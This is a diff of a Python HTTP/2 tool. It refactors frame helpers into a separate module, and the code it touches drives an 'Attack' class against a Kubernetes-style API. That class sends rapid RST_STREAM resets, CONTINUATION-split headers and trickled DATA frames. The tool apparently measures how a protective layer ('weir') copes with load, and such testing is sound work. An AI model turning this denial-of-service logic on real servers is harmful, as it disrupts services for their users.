@@ -32,6 +32,7 @@ import threading
 import time
 
 import hpack
+import http2
 
 BEFORE = 1  # seconds of the polite user alone, at least
 TICK = 0.02  # seconds between two of its requests
@@ -43,18 +44,8 @@ BESIDE = 16  # requests at a time on a connection of the control
 PACE = 0.001  # seconds between two looks of the control at what is due, at least
 
 NAMESPACE = "/api/v1/namespaces/default"
-DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
-ACK = END_STREAM = 1
-END_HEADERS = 4
-INITIAL_WINDOW_SIZE = 4
-LARGE = 2**30
 LARGEST_FRAME = 16384
 ACCEPTED_FIELDS = 2048  # of one frame, by weir
-CANCEL = struct.pack(">L", 8)
-
-
-def frame(kind, flags, stream, payload=b""):
-    return struct.pack(">LBL", len(payload) << 8 | kind, flags, stream) + payload
 
 
 class Target:
@@ -244,9 +235,9 @@ class Http2:
             target.host, target.port, ssl=target.tls("h2", self.user), server_hostname=target.host, local_addr=(SOURCE, 0)
         )
         self.writer.write(
-            b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-            + frame(SETTINGS, 0, 0, struct.pack(">HL", INITIAL_WINDOW_SIZE, LARGE))
-            + frame(WINDOW_UPDATE, 0, 0, struct.pack(">L", LARGE))
+            http2.PREFACE
+            + http2.frame(http2.SETTINGS, 0, 0, struct.pack(">HL", http2.INITIAL_WINDOW_SIZE, http2.LARGE))
+            + http2.frame(http2.WINDOW_UPDATE, 0, 0, struct.pack(">L", http2.LARGE))
         )
         await self.writer.drain()
         self.alive = True
@@ -259,13 +250,13 @@ class Http2:
                 length, flags, stream = struct.unpack(">LBL", await self.reader.readexactly(9))
                 kind, length = length & 255, length >> 8
                 payload = await self.reader.readexactly(length)
-                if kind == SETTINGS and not flags & ACK:
-                    self.writer.write(frame(SETTINGS, ACK, 0))
-                elif kind == PING and not flags & ACK:
-                    self.writer.write(frame(PING, ACK, 0, payload))
-                elif kind == RST_STREAM or (kind in (DATA, HEADERS) and flags & END_STREAM):
+                if kind == http2.SETTINGS and not flags & http2.ACK:
+                    self.writer.write(http2.frame(http2.SETTINGS, http2.ACK, 0))
+                elif kind == http2.PING and not flags & http2.ACK:
+                    self.writer.write(http2.frame(http2.PING, http2.ACK, 0, payload))
+                elif kind == http2.RST_STREAM or (kind in (http2.DATA, http2.HEADERS) and flags & http2.END_STREAM):
                     self.open.pop(stream, None)
-                elif kind == GOAWAY:
+                elif kind == http2.GOAWAY:
                     break
         except (OSError, EOFError):
             pass
@@ -291,9 +282,9 @@ class Http2:
         rest = [block[at : at + LARGEST_FRAME] for at in range(0, len(block), LARGEST_FRAME)]
         last = len(rest) - 1
         return b"".join(
-            frame(
-                CONTINUATION if index else HEADERS,
-                (END_HEADERS if index == last else 0) | (END_STREAM if end_stream and not index else 0),
+            http2.frame(
+                http2.CONTINUATION if index else http2.HEADERS,
+                (http2.END_HEADERS if index == last else 0) | (http2.END_STREAM if end_stream and not index else 0),
                 stream,
                 part,
             )
@@ -302,7 +293,7 @@ class Http2:
 
     def reset_all(self):
         streams, self.open = self.open, {}
-        return b"".join(frame(RST_STREAM, 0, stream, CANCEL) for stream in streams)
+        return b"".join(http2.frame(http2.RST_STREAM, 0, stream, http2.CANCEL) for stream in streams)
 
     async def send(self, data):
         if not self.alive:
@@ -414,7 +405,7 @@ class Attack:
             await connection.send(b"".join(heads))
             if trickle:
                 await asyncio.sleep(1)
-                await connection.send(b"".join(frame(DATA, 0, stream, b"x") for stream in list(connection.open)))
+                await connection.send(b"".join(http2.frame(http2.DATA, 0, stream, b"x") for stream in list(connection.open)))
             else:
                 await asyncio.sleep(0.05)
 
